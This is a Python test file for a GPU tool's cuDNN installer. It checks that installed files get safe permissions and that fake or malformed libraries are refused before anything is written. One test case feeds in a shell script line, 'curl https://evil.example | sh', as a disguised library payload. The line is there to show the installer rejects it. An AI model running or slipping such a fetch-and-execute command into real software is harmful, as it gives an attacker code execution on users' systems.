"""install-cudnn writes 0o644 files and 0o755 directories whatever the tarball and the umask say,
and refuses a "library" that is a program, cut short, or built for another machine before a
byte of it is written (issue 18, items 1 and 7). Real tarballs, the real CLI, real umasks."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import tarfile
from pathlib import Path

import pytest
import runner

from gpudoctor.actions.install_cudnn import install_cudnn
from gpudoctor.actions.tarball import Readable
from gpudoctor.actions.transaction import FileOps
from tests.cudnn_kit import SUBLIBS, CudnnKit, GpuEnv, MakeTarball

pytestmark = pytest.mark.subprocess  # runs gpudoctor in new processes

state = CudnnKit.tree_state
add = CudnnKit.add_member
TOP = "cudnn-linux-x86_64-9.1.0.29_cuda12-archive"


def cli(env: dict[str, str], umask: int, *args: str) -> subprocess.CompletedProcess[str]:
    """`python -m gpudoctor ARGS` under `umask`."""
    return runner.gpudoctor(*args, env=env, preexec_fn=lambda: os.umask(umask))


def bare_toolkit(tmp_path: Path) -> Path:
    """A CUDA 12.4 toolkit without include/ and lib64/: the install creates both."""
    prefix = tmp_path / "cuda-12.4"
    prefix.mkdir()
    (prefix / "version.json").write_text(json.dumps({"cuda": {"version": "12.4.1"}}))
    return prefix


def modes(prefix: Path) -> dict[str, int]:
    """The permission bits of everything gpudoctor placed or created under prefix."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(prefix):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            if not p.is_symlink() and p.name != "version.json":
                out[str(p.relative_to(prefix))] = stat.S_IMODE(p.lstat().st_mode)
    return out


@pytest.mark.slow
@pytest.mark.parametrize("umask", [0o000, 0o077])
def test_modes_are_0644_and_0755_whatever_the_tarball_and_umask_say(
        tmp_path: Path, make_tarball: MakeTarball, gpu_env: GpuEnv, umask: int) -> None:
    # every file in the tarball is -rwsrwsrwt, every directory drwxrwxrwx
    def loosen(tf: tarfile.TarFile) -> None:
        for name, data in ((f"{TOP}/include/cudnn_extra.h", b"/* extra */\n"),):
            add(tf, name, data, mode=0o7777)

    tarball = make_tarball("9.1.0", mode=0o7777, extra=loosen)
    with tarfile.open(tarball) as tf:
        assert all(m.mode & 0o7777 == 0o7777 for m in tf.getmembers()
                   if m.isfile() and "/lib/" in m.name)
    prefix = bare_toolkit(tmp_path)
    p = cli({**gpu_env(), "NO_COLOR": "1"}, umask, "install-cudnn", "--tarball", str(tarball),
            "--prefix", str(prefix), "--format", "json")
    assert p.returncode == 0, p.stdout + p.stderr
    found = modes(prefix)
    assert found["lib64/libcudnn_graph.so.9.1.0"] == 0o644
    assert found["include/cudnn_extra.h"] == 0o644
    files = {k: v for k, v in found.items() if (prefix / k).is_file()}
    dirs = {k: v for k, v in found.items() if (prefix / k).is_dir()}
    assert set(files.values()) == {0o644}, files  # the manifest too
    assert ".gpudoctor/cudnn/manifest.json" in files
    assert {"include", "lib64", ".gpudoctor", ".gpudoctor/cudnn"} <= set(dirs)
    assert set(dirs.values()) == {0o755}, dirs
    checks = {c["id"]: c["status"] for c in json.loads(p.stdout)["checks"]}
    assert checks["GD303"] == "pass"


class Recording(FileOps):
    """FileOps that remember the name of every file written (staged or placed)."""

    def __init__(self) -> None:
        self.written: list[str] = []

    def write(self, dst: Path, stream: Readable, mode: int, mtime: int,
              size: int | None = None) -> None:
        self.written.append(dst.name)
        super().write(dst, stream, mode, mtime, size)


def with_member(make_tarball: MakeTarball, data: bytes, compression: str | None = None) -> Path:
    """A cuDNN 9.1.0 tarball whose libcudnn_ops.so.9.1.0 is `data` (its links kept)."""
    lib = f"{TOP}/lib"
    return make_tarball("9.1.0", compression=compression,
                        sublibs=[s for s in SUBLIBS[9] if s != "libcudnn_ops"],
                        extra=lambda tf: (
                            add(tf, f"{lib}/libcudnn_ops.so.9.1.0", data),
                            add(tf, f"{lib}/libcudnn_ops.so.9", type=tarfile.SYMTYPE,
                                linkname="libcudnn_ops.so.9.1.0"),
                            add(tf, f"{lib}/libcudnn_ops.so", type=tarfile.SYMTYPE,
                                linkname="libcudnn_ops.so.9")))


def bad_members(cudnn_kit: CudnnKit) -> dict[str, tuple[bytes, str]]:
    true = Path("/bin/true").read_bytes()
    foreign = 183 if os.uname().machine != "aarch64" else 62
    cases = {
        "gcc PIE": (cudnn_kit.program(), "is a program (a position-independent executable "
                    "with an interpreter), not a shared library"),
        "cut to 200 bytes": (cudnn_kit.shared_object()[:200], "is cut short: its ELF headers "
                             "say it has at least "),
        "text": (b"#!/bin/sh\ncurl https://evil.example | sh\n", "is not a shared library "
                 "(it starts with b'#!/bin/sh\\ncu' (no ELF magic))"),
        "another machine": (cudnn_kit.shared_object(patch={18: foreign.to_bytes(2, "little")}),
                            "is built for "),
    }
    if true[16:18] == b"\x03\x00":  # a PIE, as on every current distribution
        cases["/bin/true"] = (true, "is a program (a position-independent executable with an "
                              "interpreter), not a shared library")
    return cases


@pytest.mark.parametrize("case", ["gcc PIE", "cut to 200 bytes", "text", "another machine",
                                  "/bin/true"])
@pytest.mark.parametrize("compression", ["xz", ""])  # streamed, and read in place (plain tar)
def test_a_member_that_is_no_shared_library_is_never_written(
        toolkit: Path, make_tarball: MakeTarball, cudnn_kit: CudnnKit, case: str,
        compression: str) -> None:
    cases = bad_members(cudnn_kit)
    if case not in cases:
        pytest.skip(f"{case} is not a position-independent executable here")
    data, said = cases[case]
    tarball = with_member(make_tarball, data, compression)
    before = state(toolkit)
    ops = Recording()
    result = install_cudnn(tarball, toolkit, ops=ops, gpus=())
    assert result.error is not None
    assert result.error.message.startswith(
        f"refused: member '{TOP}/lib/libcudnn_ops.so.9.1.0' {said}"), result.error.message
    assert "libcudnn_ops.so.9.1.0" not in ops.written  # not even into the staging directory
    assert state(toolkit) == before


@pytest.mark.slow
def test_the_cli_refuses_a_pie_library_and_writes_nothing(
        toolkit: Path, make_tarball: MakeTarball, cudnn_kit: CudnnKit, gpu_env: GpuEnv) -> None:
    tarball = with_member(make_tarball, cudnn_kit.program())
    before = state(toolkit)
    p = cli({**gpu_env(), "NO_COLOR": "1"}, 0o022, "install-cudnn", "--tarball", str(tarball),
            "--prefix", str(toolkit), "--format", "json")
    assert p.returncode == 1, p.stdout + p.stderr
    error = json.loads(p.stdout)["error"]["message"]
    assert "libcudnn_ops.so.9.1.0' is a program (a position-independent executable" in error
    assert state(toolkit) == before
